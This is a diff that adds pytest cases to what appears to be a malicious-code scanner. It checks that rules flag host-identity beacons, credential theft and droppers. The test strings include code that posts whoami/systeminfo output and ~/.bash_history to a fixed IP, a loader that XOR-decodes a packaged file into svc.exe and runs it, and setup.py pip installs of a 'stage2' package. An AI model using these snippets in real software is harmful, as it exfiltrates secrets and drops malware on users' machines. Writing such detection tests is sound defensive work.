@@ -1192,3 +1192,65 @@ def test_bytecode_loaded_from_a_file_is_a_threat_and_source_plugins_are_not() ->
     assert "CPL-THR-027" in danger(pyc)
     source = pyc.replace("m.pyc", "m.py")
     assert "CPL-THR-027" not in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import subprocess, requests\nhw = subprocess.check_output("wmic csproduct get uuid")\n'
+        'requests.post("http://198.51.100.12/r", data={"hw": hw})\n',
+        'import os, urllib.request\nme = os.popen("whoami && ipconfig").read()\n'
+        'urllib.request.urlopen("http://198.51.100.12/r", data=me.encode())\n',
+        "import subprocess, requests\n"
+        'out = subprocess.run(["systeminfo"], capture_output=True).stdout\n'
+        'requests.post("http://198.51.100.12/r", data=out)\n',
+    ],
+)
+def test_the_output_of_a_host_identity_program_sent_out_is_a_beacon(source: str) -> None:
+    assert "CPL-THR-017" in danger(source)
+
+
+def test_a_program_output_that_is_not_the_hosts_identity_is_not_a_beacon() -> None:
+    source = (
+        'import subprocess, requests\nv = subprocess.check_output(["git", "describe"])\n'
+        'requests.post("https://api.example.com/builds", data={"v": v})\n'
+    )
+    assert "CPL-THR-017" not in danger(source)
+
+
+def test_a_shell_history_posted_to_a_fixed_host_is_credential_theft() -> None:
+    source = (
+        "import os, requests\n"
+        'h = open(os.path.expanduser("~/.bash_history")).read()\n'
+        'requests.post("http://198.51.100.12:8080/u", data=h)\n'
+    )
+    assert "CPL-THR-007" in danger(source)
+    # the same history read by a tool that sends nothing is not theft
+    assert "CPL-THR-007" not in danger(source.replace("requests.post", "print"))
+
+
+def test_a_packaged_file_xored_written_and_started_is_a_dropper_in_any_module() -> None:
+    source = """
+    import os, subprocess
+    here = os.path.dirname(__file__)
+    blob = open(os.path.join(here, "IconCache.dat"), "rb").read()
+    exe = bytes(b ^ 0x5A for b in blob)
+    path = os.path.join(os.getenv("APPDATA"), "svc.exe")
+    with open(path, "wb") as f:
+        f.write(exe)
+    subprocess.Popen([path])
+    """
+    assert "CPL-THR-001" in danger(source, "pkg/loader.py")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'os.popen("pip3 install --user stage2")',
+        'os.system("pip3.11 install stage2")',
+        'subprocess.check_call(f"{sys.executable} -m pip install {name}", shell=True)',
+    ],
+)
+def test_pip_by_any_name_or_in_a_formatted_command_is_an_install(command: str) -> None:
+    source = f"import os, subprocess, sys\nname = 'stage2'\n{command}\n"
+    assert "CPL-THR-019" in danger(source, "setup.py")
